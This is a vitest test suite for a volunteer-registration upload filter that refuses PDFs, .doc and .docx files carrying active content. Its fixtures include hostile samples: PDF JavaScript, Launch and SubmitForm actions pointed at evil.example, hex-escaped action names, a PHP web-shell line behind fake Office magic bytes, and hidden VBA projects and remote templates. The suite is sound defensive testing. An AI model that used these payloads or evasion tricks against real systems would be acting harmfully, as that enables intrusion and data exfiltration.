import { FILE_RULES } from '@shared/schemas/upload-rules';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inspectFile } from '../../src/platform/uploads/uploads';
import { createTestApp, type TestApp } from '../helpers/test-app';
import { field, file, listUploads, makeDocx, makePdf, makePng, multipart } from '../public-site/fixtures';
import { compoundFile, docxWith, escapeName, objectStream, pdfWith, RELATIONSHIP } from './documents';
import { RUNS } from './harness';

// #15 item 6: active content the old filter let through (it grepped the bytes). The filter now parses: PDF names
// are decoded, object streams inflated, .doc files opened as Compound Files, .docx packages as ZIPs.
const cv = FILE_RULES.cv;
const refused = { error: cv.typeMessage };
const check = (data: Buffer, name: string) => inspectFile(data, name, cv);

const ACTIONS = [
  (n: (s: string) => string) => `<< /Type /Action /S /${n('JavaScript')} /${n('JS')} (app.alert(1)) >>`,
  (n: (s: string) => string) => `<< /S /${n('Launch')} /F (cmd.exe) >>`,
  (n: (s: string) => string) => `<< /S /${n('SubmitForm')} /F (https://evil.example/collect) >>`,
  (n: (s: string) => string) => `<< /S /${n('ImportData')} /F (data.fdf) >>`,
];

describe('PDF', () => {
  it('refuses hex-escaped action names (/J#61vaScript), at the top level or in an object stream, compressed or not', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...ACTIONS),
        fc.integer({ min: 1, max: 1023 }),
        fc.constantFrom('top', 'stream', 'compressed'),
        async (action, mask, where) => {
          const object = action((name) => escapeName(name, mask));
          const pdf =
            where === 'top' ? pdfWith({ objects: [object] }) : pdfWith({ objects: [objectStream([object], where === 'compressed')] });
          expect(await check(pdf, 'cv.pdf'), `${where}: ${object}`).toEqual(refused);
        },
      ),
      { numRuns: RUNS },
    );
  });

  it.each([
    ['a /URI open action', '/OpenAction << /S /URI /URI (https://evil.example/track) >>'],
    ['a /SubmitForm open action', '/OpenAction << /S /SubmitForm /F (https://evil.example) >>'],
    ['an open action by reference', '/OpenAction 4 0 R'],
    ['an escaped /OpenAction', `/${escapeName('OpenAction', 0b101)} << /S /URI /URI (https://evil.example) >>`],
    ['additional actions (/AA)', '/AA << /O << /S /URI /URI (https://evil.example) >> >>'],
  ])('refuses %s', async (_label, catalog) => {
    const pdf = pdfWith({ catalog, objects: ['<< /S /URI /URI (https://evil.example) >>'] });
    expect(await check(pdf, 'cv.pdf')).toEqual(refused);
  });

  it('refuses an open action hidden in a compressed object stream', async () => {
    const pdf = pdfWith({ catalog: '/OpenAction 100 0 R', objects: [objectStream(['<< /S /URI /URI (https://evil.example) >>'])] });
    expect(await check(pdf, 'cv.pdf')).toEqual(refused);
  });

  it('refuses an object stream it cannot read (unknown filter, corrupt data)', async () => {
    const lzw = Buffer.from('<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 4 >>\nstream\nABCD\nendstream', 'latin1');
    const corrupt = Buffer.from('<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 4 >>\nstream\nABCD\nendstream', 'latin1');
    expect(await check(pdfWith({ objects: [lzw] }), 'cv.pdf')).toEqual(refused);
    expect(await check(pdfWith({ objects: [corrupt] }), 'cv.pdf')).toEqual(refused);
  });

  it('accepts ordinary PDFs: a page to open at, a clickable link, compressed objects without actions', async () => {
    expect(await check(makePdf(), 'cv.pdf')).toEqual({ kind: 'pdf' });
    expect(await check(pdfWith({ catalog: '/OpenAction [3 0 R /Fit]' }), 'cv.pdf')).toEqual({ kind: 'pdf' });
    const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.linkedin.com/in/awa) >> >>';
    expect(await check(pdfWith({ objects: [link] }), 'cv.pdf')).toEqual({ kind: 'pdf' });
    expect(await check(pdfWith({ objects: [objectStream(['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'])] }), 'cv.pdf')).toEqual(
      { kind: 'pdf' },
    );
  });
});

describe('.doc', () => {
  it('refuses the 8 magic bytes of an Office file followed by anything that is not a Compound File', async () => {
    const magic = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('<html><script>alert(1)</script></html>', '<?php system($_GET[1]); ?>', ''),
        fc.uint8Array({ maxLength: 2048 }),
        async (markup, noise) => {
          const fake = Buffer.concat([magic, Buffer.from(markup), Buffer.from(noise), Buffer.alloc(512)]);
          expect(await check(fake, 'casier.doc')).toEqual(refused);
        },
      ),
      { numRuns: RUNS },
    );
  });

  it('accepts a real Word Compound File and refuses one with macros or without a Word document', async () => {
    expect(await check(compoundFile({ WordDocument: 'texte', '1Table': 'x' }), 'casier.doc')).toEqual({ kind: 'doc' });
    expect(await check(compoundFile({ WordDocument: 'texte', 'Macros/VBA/dir': 'x' }), 'casier.doc')).toEqual(refused);
    expect(await check(compoundFile({ WordDocument: 'texte', '_VBA_PROJECT_CUR/VBA/dir': 'x' }), 'casier.doc')).toEqual(refused);
    expect(await check(compoundFile({ Workbook: 'pas un document Word' }), 'casier.doc')).toEqual(refused);
  });
});

describe('.docx', () => {
  it('refuses an external attached template and any other external relationship but a hyperlink', async () => {
    for (const type of [
      RELATIONSHIP.attachedTemplate,
      RELATIONSHIP.oleObject,
      'http://schemas.openxmlformats.org/officeDocument/2006/relationships/image',
    ]) {
      const docx = docxWith({
        documentRels: `<Relationship Id="rId9" Type="${type}" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
      });
      expect(await check(docx, 'cv.docx'), type).toEqual(refused);
    }
    const link = docxWith({
      documentRels: `<Relationship Id="rId9" Type="${RELATIONSHIP.hyperlink}" Target="https://www.linkedin.com/in/awa" TargetMode="External"/>`,
    });
    expect(await check(link, 'cv.docx')).toEqual({ kind: 'docx' });
    expect(await check(makeDocx(), 'cv.docx')).toEqual({ kind: 'docx' });
  });

  it('refuses a VBA project under any name, by its content, its content type or its relationship', async () => {
    const vba = compoundFile({ VBA: 'Attribute VB_Name', PROJECT: 'x' });
    await fc.assert(
      fc.asyncProperty(fc.stringMatching(/^[a-z]{1,12}$/), fc.constantFrom('bin', 'png', 'xml', 'dat'), async (stem, ext) => {
        const renamed = docxWith({ parts: { [`word/media/${stem}.${ext}`]: vba } });
        expect(await check(renamed, 'cv.docx')).toEqual(refused);
      }),
      { numRuns: RUNS },
    );
    const byType = docxWith({
      contentTypes: '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      parts: { 'word/x.bin': 'x' },
    });
    expect(await check(byType, 'cv.docx')).toEqual(refused);
    const byRel = docxWith({
      documentRels: `<Relationship Id="rId5" Type="${RELATIONSHIP.vbaProject}" Target="data.bin"/>`,
      parts: { 'word/data.bin': 'x' },
    });
    expect(await check(byRel, 'cv.docx')).toEqual(refused);
    const macroDoc = docxWith({
      contentTypes: '<Default Extension="bin" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    });
    expect(await check(macroDoc, 'cv.docx')).toEqual(refused);
  });
});

describe('through the API', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(async () => t?.close());

  it.each([
    ['criminal_record', 'casier.pdf', pdfWith({ objects: [`<< /S /${escapeName('JavaScript', 0b10)} /JS (app.alert(1)) >>`] })],
    ['cv', 'cv.pdf', pdfWith({ objects: [objectStream(['<< /S /JavaScript /JS (app.alert(1)) >>'])] })],
    ['cv', 'cv.pdf', pdfWith({ catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' })],
    [
      'criminal_record',
      'casier.doc',
      Buffer.concat([
        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
        Buffer.from('<html><script>x</script></html>'),
        Buffer.alloc(600),
      ]),
    ],
    [
      'motivation_letter',
      'lettre.docx',
      docxWith({
        documentRels: `<Relationship Id="rId9" Type="${RELATIONSHIP.attachedTemplate}" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
      }),
    ],
    ['motivation_letter', 'lettre.docx', docxWith({ parts: { 'word/media/image1.png': compoundFile({ VBA: 'x' }) } })],
  ])('a volunteer registration with a hostile %s (%s) gets 422 and stores nothing', async (fieldName, name, data) => {
    const volunteers = async () =>
      Number(
        (
          await t.db
            .selectFrom('volunteers')
            .select((eb) => eb.fn.countAll().as('n'))
            .executeTakeFirstOrThrow()
        ).n,
      );
    const before = await volunteers();
    const files = {
      profile_image: file('profile_image', 'moi.png', makePng(), 'image/png'),
      cv: file('cv', 'cv.pdf', makePdf()),
      motivation_letter: file('motivation_letter', 'lettre.docx', makeDocx()),
      criminal_record: file('criminal_record', 'casier.pdf', makePdf()),
    } as Record<string, ReturnType<typeof file>>;
    files[fieldName] = file(fieldName, name, data);
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/volunteers',
      ...multipart([
        field('name', 'Kossi Mensah'),
        field('email', `kossi.${fieldName}.${name}@example.bj`),
        field('domain', 'education'),
        field('under_restriction', '0'),
        ...Object.values(files),
      ]),
    });
    expect(res.statusCode).toBe(422);
    expect(res.json().errors[fieldName]).toEqual([cv.typeMessage]);
    expect(await volunteers()).toBe(before);
    expect(listUploads(t.dataDir)).toEqual([]);
  });
});
